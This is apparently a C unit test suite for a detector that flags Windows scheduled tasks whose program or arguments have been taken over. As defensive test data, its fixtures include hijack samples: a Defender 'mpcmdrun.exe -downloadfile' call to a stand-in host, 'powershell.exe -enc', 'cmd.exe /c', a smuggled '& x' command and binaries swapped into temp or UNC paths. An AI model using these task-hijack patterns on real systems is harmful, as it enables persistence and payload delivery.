#include "unit/facts.h"

#include "detect/wintask.h"

static const struct row {
	enum wintask	 is;
	const char	*path, *program, *arguments;
} rows[] = {
	/* As Windows has them, in each way that their program can be written */
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "c:\\windows\\system32\\defrag.exe", "-c -h -k -g -$" },
	{ WINTASK_SAME, "Microsoft\\Windows\\Defrag\\ScheduledDefrag", "defrag.exe", "-c" },
	{ WINTASK_SAME, "\\MICROSOFT\\WINDOWS\\DEFRAG\\SCHEDULEDDEFRAG", "\"c:\\windows\\sysnative\\defrag\"", "" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Autochk\\Proxy", "c:\\windows\\system32\\rundll32.exe",
	    "/d acproxy.dll,performautochkoperations" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Autochk\\Proxy", "rundll32",
	    "/d  \"c:\\windows\\system32\\acproxy.dll\",performautochkoperations " },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\UPnP\\UPnPHostConfig", "sc.exe", "config upnphost start= auto" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup",
	    "c:\\programdata\\microsoft\\windows defender\\platform\\4.18.25010.11-0\\mpcmdrun.exe",
	    "-idletask -taskname wdcleanup" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Chkdsk\\SyspartRepair", "c:\\windows\\system32\\bcdboot.exe",
	    "c:\\windows /sysrepair" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\SystemRestore\\SR", "c:\\windows\\system32\\srtasks.exe",
	    "executescheduledsppcreation" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\SystemRestore\\SR", "c:\\windows\\system32\\rundll32.exe",
	    "/d srrstr.dll,executescheduledsppcreation" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "{900be39d-6be8-461a-bc4d-b0fa71f5ecb1}", "" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "{900BE39D-6BE8-461A-BC4D-B0FA71F5ECB1}", "" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "taskhostw.exe", "" },
	{ WINTASK_SAME, "\\Microsoft\\Office\\Office Feature Updates Logon",
	    "c:\\program files\\microsoft office\\root\\vfs\\programfilescommonx64\\microsoft shared\\office16\\sdxhelper.exe",
	    "/onlogon" },
	{ WINTASK_SAME, "\\MicrosoftEdgeUpdateTaskMachineUA{0A1B2C3D-0001-0002-0003-0123456789AB}",
	    "c:\\program files (x86)\\microsoft\\edgeupdate\\microsoftedgeupdate.exe", "/ua /installsource scheduler" },
	{ WINTASK_SAME, "\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001",
	    "c:\\users\\<user>\\appdata\\local\\microsoft\\onedrive\\onedrivestandaloneupdater.exe", "" },
	{ WINTASK_SAME, "\\User_Feed_Synchronization-{87B814C1-CCB9-4FA2-8B36-7914DEC60311}",
	    "c:\\windows\\system32\\msfeedssync.exe", "sync" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\EnterpriseMgmt\\{0A1B2C3D-0001-0002-0003-0123456789AB}\\PushLaunch",
	    "c:\\windows\\system32\\deviceenroller.exe", "/o \"0a1b2c3d-0001-0002-0003-0123456789ab\" /c" },
	/* An action that is not known for sure */
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Hotpatch\\Monitoring", "c:\\windows\\system32\\hpmonitor.exe", "" },
	{ WINTASK_SAME, "\\Microsoft\\Windows\\Hotpatch\\Monitoring", "{5014b7c8-934e-4262-9816-887fa745a6c4}", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Hotpatch\\Monitoring", "{5014b7c8-934e-4262-9816-000000000000}", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Hotpatch\\Monitoring", "c:\\windows\\system32\\cmd.exe", "/c x" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Hotpatch\\Monitoring", "c:\\temp\\hpmonitor.exe", "" },
	/* Taken over */
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask", "cmd.exe", "/c x" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Autochk\\Proxy", "c:\\windows\\system32\\rundll32.exe",
	    "/d c:\\temp\\acproxy.dll,performautochkoperations" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Autochk\\Proxy", "rundll32.exe",
	    "/d acproxy.dll,performautochkoperations & x" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "c:\\windows\\temp\\defrag.exe", "-c" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "c:\\windows\\system32\\x\\defrag.exe", "-c" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "c:\\windows\\system32\\..\\temp\\defrag.exe", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "\\\\h\\c:\\windows\\system32\\defrag.exe", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "{a6ba00fe-40e8-477c-b713-c64a14f18adb}", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "taskhostw.exe", "x" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\WDI\\ResolutionHost", "c:\\temp\\taskhostw.exe", "" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup",
	    "c:\\program files\\windows defender\\mpcmdrun.exe", "-downloadfile -url http://h/x -path c:\\x" },
	{ WINTASK_CHANGED, "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup",
	    "c:\\programdata\\microsoft\\windows defender\\platform\\a\\b\\mpcmdrun.exe", "-idletask -taskname wdcleanup" },
	{ WINTASK_CHANGED, "\\MicrosoftEdgeUpdateTaskMachineCore", "powershell.exe", "-enc x" },
	/* Neighbours, and those whose place administrators use */
	{ WINTASK_AMONG, "\\Microsoft\\Windows\\MUI\\LPUpdate", "cmd.exe", "/c x" },
	{ WINTASK_AMONG, "\\Microsoft\\Windows\\Updater", "", "" },
	{ WINTASK_AMONG, "\\Microsoft\\Office\\Office Updates", "x.exe", "" },
	{ WINTASK_NONE, "\\Microsoft\\Windows\\PowerShell\\ScheduledJobs\\Nightly", "powershell.exe", "-noninteractive x" },
	{ WINTASK_NONE, "\\Microsoft\\Windows\\PLA\\Disk queue", "rundll32.exe", "pla.dll,plahost \"disk queue\" \"$(arg0)\"" },
	{ WINTASK_NONE, "\\Microsoft\\Configuration Manager\\Configuration Manager Health Evaluation",
	    "c:\\windows\\ccm\\ccmeval.exe", "" },
	{ WINTASK_NONE, "\\Nightly", "cmd.exe", "/c x" },
	{ WINTASK_NONE, "\\ScheduledDefrag", "cmd.exe", "/c x" },
	{ WINTASK_NONE, "\\OneDrive Standalone Update Task-S-3-5-21-1-2-3-1001", "cmd.exe", "/c x" },
	{ WINTASK_NONE, "\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001x", "cmd.exe", "/c x" },
	{ WINTASK_NONE, "\\User_Feed_Synchronization-{87B814C1-CCB9-4FA2-8B36-7914DEC6031}", "cmd.exe", "/c x" },
	{ WINTASK_NONE, "", "cmd.exe", "" },
	{ WINTASK_NONE, "\\\\\\", "", "" },
	/* What it runs is not known */
	{ WINTASK_NONE, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "", "" },
	{ WINTASK_NONE, "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", " ", "" },
};

static void
paths_and_actions(void **state)
{
	(void)state;
	for (size_t i = 0; i < nitems(rows); i++) {
		const struct row *r = &rows[i];
		enum wintask is = wintask_find(view_str(r->path), view_str(r->program), view_str(r->arguments));

		if (is != r->is)
			fail_msg("%s, %s %s: %d and not %d", r->path, r->program, r->arguments, is, r->is);
	}
}

static void
classes(void **state)
{
	(void)state;
	assert_true(wintask_class(view_str("{A6BA00FE-40E8-477C-B713-C64A14F18ADB}")));
	assert_true(wintask_class(view_str("{a6ba00fe-40e8-477c-b713-c64a14f18adb}")));
	assert_false(wintask_class(view_str("{a6ba00fe-40e8-477c-b713-c64a14f18ad}")));
	assert_false(wintask_class(view_str("{00000000-0000-0000-0000-000000000000}")));
	assert_false(wintask_class(view_str("{}")));
	assert_false(wintask_class(view_str("")));
}

/* Each cut of a path, of a program and of arguments, from memory that ends there. */
static void
every_truncation_is_safe(void **state)
{
	(void)state;
	for (size_t i = 0; i < nitems(rows); i++)
		for (int which = 0; which < 3; which++) {
			struct view v[3] = { view_str(rows[i].path), view_str(rows[i].program), view_str(rows[i].arguments) };
			struct view whole = v[which];

			for (size_t n = 0; n < whole.len; n++) {
				uint8_t *cut = test_malloc(n + (n == 0));

				memcpy(cut, whole.p, n);
				v[which] = (struct view){ cut, n };
				assert_in_range(wintask_find(v[0], v[1], v[2]), WINTASK_NONE, WINTASK_CHANGED);
				wintask_class(v[1]);
				test_free(cut);
			}
		}
}

static void
long_texts_take_no_time(void **state)
{
	size_t n = 1u << 20;
	char *quotes = test_malloc(n);

	(void)state;
	memset(quotes, '"', n);
	for (int i = 0; i < 100; i++)
		assert_int_equal(wintask_find(view_str("\\Microsoft\\Windows\\UPnP\\UPnPHostConfig"), view_str("sc.exe"),
		    (struct view){ (const uint8_t *)quotes, n }), WINTASK_CHANGED);
	test_free(quotes);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(paths_and_actions),
		cmocka_unit_test(classes),
		cmocka_unit_test(every_truncation_is_safe),
		cmocka_unit_test(long_texts_take_no_time),
	};

	return cmocka_run_group_tests_name("wintask", tests, NULL, NULL);
}
